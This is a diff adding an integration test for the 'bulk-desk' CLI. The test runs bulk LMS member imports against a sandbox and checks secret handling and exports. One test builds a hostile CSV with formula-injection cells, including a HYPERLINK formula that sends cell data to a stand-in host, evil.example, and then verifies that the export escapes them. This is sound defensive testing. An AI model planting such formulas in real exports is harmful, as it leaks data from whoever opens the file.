@@ -1,0 +1,293 @@
+// The CLI as an admin's script runs it: a separate process (the `bulk-desk` bin, scripts/cli.mjs) on a
+// data folder, the real keychain (D-Bus session from scripts/test.sh) and a real sandbox LMS started
+// here. Then the same folder is opened the way the app opens it, to prove the job is in its history.
+import { spawn } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { createServices, type Services } from '../../../src-main/services';
+import { startSandbox, type Sandbox } from '../../../src-main/sandbox/index';
+import { callOk } from '../../helpers/callOk';
+import { readAllFiles } from '../../helpers/readAllFiles';
+import { tempDir } from '../../helpers/tempDir';
+
+const ROOT = resolve(import.meta.dirname, '../../..');
+const BIN = join(ROOT, 'scripts', 'cli.mjs');
+
+interface Ran {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+function cli(args: string[], opts: { input?: string; cwd?: string } = {}): Promise<Ran> {
+  return new Promise((resolveRun, reject) => {
+    const child = spawn(process.execPath, [BIN, ...args], { cwd: opts.cwd ?? ROOT, env: process.env });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
+    child.on('error', reject);
+    child.on('close', (code) => resolveRun({ code, stdout, stderr }));
+    child.stdin.end(opts.input ?? '');
+  });
+}
+
+const json = <T>(r: Ran): T => {
+  if (r.code !== 0) throw new Error(`exit ${r.code}: ${r.stderr}`);
+  return JSON.parse(r.stdout) as T;
+};
+
+describe('bulk-desk CLI', () => {
+  let sandbox: Sandbox | null = null;
+  let services: Services | null = null;
+  let dir: ReturnType<typeof tempDir> | null = null;
+  afterEach(async () => {
+    await services?.close();
+    services = null;
+    await sandbox?.close();
+    sandbox = null;
+    dir?.remove();
+    dir = null;
+  });
+
+  it("imports a CSV, runs a job against a Coursepath LMS, and the job is in the app's history with every row", async () => {
+    dir = tempDir();
+    sandbox = await startSandbox({ seed: 11 });
+    const cp = sandbox.credentials.coursepath;
+    const D = ['--data-dir', dir.path];
+
+    // The secret goes in on stdin only.
+    const conn = json<{ id: string; hasSecret: boolean }>(
+      await cli(
+        [
+          'connections',
+          'add',
+          '--api',
+          'coursepath',
+          '--name',
+          'Nightly LMS',
+          '--base-url',
+          cp.baseUrl,
+          '--email',
+          cp.email,
+          '--secret-stdin',
+          '--json',
+          ...D,
+        ],
+        { input: `${cp.apiKey}\n` },
+      ),
+    );
+    expect(conn.hasSecret).toBe(true);
+
+    const dataset = json<{ id: string; rowCount: number; columns: string[] }>(
+      await cli(['import', join(ROOT, 'resources', 'sample-users.csv'), '--json', ...D]),
+    );
+    expect(dataset.rowCount).toBe(60);
+    expect(dataset.columns).toContain('email');
+
+    const mappingFile = join(dir.path, 'mapping.json');
+    writeFileSync(
+      mappingFile,
+      JSON.stringify({
+        fields: {
+          email: { kind: 'column', column: 'email' },
+          name: { kind: 'template', template: '{first_name} {last_name}' },
+          department: { kind: 'column', column: 'department' },
+        },
+      }),
+    );
+    const run = await cli([
+      'run',
+      '--dataset',
+      dataset.id,
+      '--connection',
+      conn.id,
+      '--template',
+      'coursepath.members.create',
+      '--mapping',
+      mappingFile,
+      '--concurrency',
+      '8',
+      '--wait',
+      '--json',
+      ...D,
+    ]);
+    expect(run.code, run.stderr).toBe(0);
+    const summary = JSON.parse(run.stdout) as {
+      id: string;
+      state: string;
+      counts: { succeeded: number; total: number };
+    };
+    expect(summary.state).toBe('completed');
+    expect(summary.counts).toMatchObject({ succeeded: 60, total: 60 });
+    expect(run.stderr).toMatch(/completed: 60 succeeded, 0 failed/);
+
+    // Every row reached the LMS exactly once, each with its own token.
+    const posts = sandbox.ledger.entries().filter((e) => e.method === 'POST' && e.path === '/api/v1/members');
+    expect(posts).toHaveLength(60);
+    expect(new Set(posts.map((e) => e.jti)).size).toBe(60);
+
+    const shown = await cli(['jobs', 'show', summary.id, ...D]);
+    expect(shown.code).toBe(0);
+    expect(shown.stdout).toMatch(/succeeded\s+60/);
+
+    // The app's view: the same data folder opened by createServices, read through the contract.
+    services = await createServices({ dataDir: dir.path, sandbox: false });
+    const jobs = await callOk(services, 'jobs.list', {});
+    const job = jobs.find((j) => j.id === summary.id);
+    expect(job).toBeDefined();
+    expect(job!.state).toBe('completed');
+    expect(job!.connectionName).toBe('Nightly LMS');
+    expect(job!.counts).toMatchObject({ total: 60, succeeded: 60, failed: 0 });
+    const items = await callOk(services, 'jobs.items', { jobId: summary.id, offset: 0, limit: 1000 });
+    expect(items.total).toBe(60);
+    expect(items.items.every((i) => i.status === 'succeeded' && i.responseStatus === 201)).toBe(true);
+    const rows = await callOk(services, 'datasets.rows', { datasetId: dataset.id, offset: 0, limit: 1000 });
+    expect(items.items.map((i) => i.rowNumber)).toEqual(rows.items.map((r) => r.rowNumber));
+    await services.close();
+    services = null;
+
+    // The signing secret is nowhere in the data folder.
+    expect(readAllFiles(dir.path)).not.toContain(cp.apiKey);
+  });
+
+  it('exports results with formula cells escaped, failed rows with their original columns only, and no secret', async () => {
+    dir = tempDir();
+    sandbox = await startSandbox({ seed: 12 });
+    const cp = sandbox.credentials.coursepath;
+    const D = ['--data-dir', dir.path];
+    const csv = join(dir.path, 'hostile.csv');
+    writeFileSync(
+      csv,
+      [
+        'email,name,department',
+        'ann@example.com,=HYPERLINK("http://evil.example/?x="&A1;"click"),Sales',
+        'bob@example.com,+31 6 1234,-Finance',
+        'not-an-email,@SUM(A1:A9),Legal', // skipped before sending: not an email
+        'cleo@example.com,"Cleo, Jr.",Ops',
+      ].join('\r\n') + '\r\n',
+    );
+    const conn = json<{ id: string }>(
+      await cli(
+        [
+          'connections',
+          'add',
+          '--api',
+          'coursepath',
+          '--name',
+          'LMS',
+          '--base-url',
+          cp.baseUrl,
+          '--email',
+          cp.email,
+          '--secret-stdin',
+          '--json',
+          ...D,
+        ],
+        {
+          input: cp.apiKey,
+        },
+      ),
+    );
+    const dataset = json<{ id: string }>(await cli(['import', csv, '--json', ...D]));
+    const run = await cli([
+      'run',
+      '--dataset',
+      dataset.id,
+      '--connection',
+      conn.id,
+      '--template',
+      'coursepath.members.create',
+      '--auto',
+      ...D,
+    ]);
+    expect(run.code, run.stderr).toBe(1); // a row did not go through
+    const jobId = run.stdout.trim();
+    expect(run.stderr).toMatch(/3 succeeded, 0 failed, 1 skipped/);
+
+    const results = join(dir.path, 'results.csv');
+    expect((await cli(['jobs', 'export', jobId, '--out', results, ...D])).code).toBe(0);
+    const text = readFileSync(results, 'utf8');
+    const lines = text
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
+    expect(lines[0]).toBe('email,name,department,outcome,response_status,error,attempts,Member ID');
+    expect(lines).toHaveLength(5);
+    expect(lines[1]).toMatch(
+      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,succeeded,201,,1,\d+$/,
+    );
+    expect(lines[2]).toMatch(/^bob@example\.com,'\+31 6 1234,'-Finance,succeeded,201,/);
+    expect(lines[3]).toMatch(/^not-an-email,'@SUM\(A1:A9\),Legal,skipped,,/);
+    expect(lines[4]).toMatch(/^cleo@example\.com,"Cleo, Jr\.",Ops,succeeded,201,/);
+    // No cell in the file starts a formula.
+    for (const line of lines.slice(1))
+      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+
+    const failed = await cli(['jobs', 'export', jobId, '--only', 'failed', ...D]);
+    expect(failed.code).toBe(0);
+    expect(failed.stdout.replace(/^\uFEFF/, '')).toBe(
+      "email,name,department\r\nnot-an-email,'@SUM(A1:A9),Legal\r\n",
+    );
+
+    const asJson = await cli(['jobs', 'export', jobId, '--format', 'json', ...D]);
+    const rows = JSON.parse(asJson.stdout) as {
+      row: number;
+      outcome: string;
+      input: Record<string, string>;
+      captured?: Record<string, string | null>;
+    }[];
+    expect(rows.map((r) => r.outcome)).toEqual(['succeeded', 'succeeded', 'skipped', 'succeeded']);
+    expect(rows[0]!.input.name).toBe('=HYPERLINK("http://evil.example/?x="&A1;"click")'); // JSON keeps the value as is
+    expect(rows[0]!.captured?.['Member ID']).toMatch(/^\d+$/);
+
+    for (const out of [text, failed.stdout, asJson.stdout, run.stdout, run.stderr]) {
+      expect(out).not.toContain(cp.apiKey);
+      expect(out).not.toMatch(/Bearer|eyJ/); // no token, signed or not
+    }
+  });
+
+  it('prints help at every level, refuses a secret on the command line, and uses exit code 2 for wrong usage', async () => {
+    dir = tempDir();
+    const top = await cli(['--help']);
+    expect(top.code).toBe(0);
+    expect(top.stdout).toMatch(/Usage: bulk-desk <command>/);
+    for (const words of [
+      ['jobs'],
+      ['connections', '--help'],
+      ['run', '--help'],
+      ['jobs', 'export', '--help'],
+      ['templates', 'list', '-h'],
+    ]) {
+      const r = await cli(words);
+      expect(r.code, words.join(' ')).toBe(0);
+      expect(r.stdout).toMatch(/Usage: bulk-desk/);
+    }
+    const noStdin = await cli([
+      'connections',
+      'add',
+      '--api',
+      'coursepath',
+      '--name',
+      'x',
+      '--base-url',
+      'http://127.0.0.1:1',
+      '--email',
+      'a@b.co',
+      '--data-dir',
+      dir.path,
+    ]);
+    expect(noStdin.code).toBe(2);
+    expect(noStdin.stderr).toMatch(/--secret-stdin is required/);
+    const argvSecret = await cli(['connections', 'add', '--secret', 'hunter2', '--data-dir', dir.path]);
+    expect(argvSecret.code).toBe(2);
+    expect((await cli(['jobs', 'frobnicate'])).code).toBe(2);
+    expect((await cli(['run', '--data-dir', dir.path])).stderr).toMatch(/--dataset is required/);
+
+    const templates = await cli(['templates', 'list', '--api', 'coassemble', '--json']);
+    const list = JSON.parse(templates.stdout) as { api: string }[];
+    expect(list.length).toBeGreaterThan(0);
+    expect(list.every((t) => t.api === 'coassemble')).toBe(true);
+  });
+});
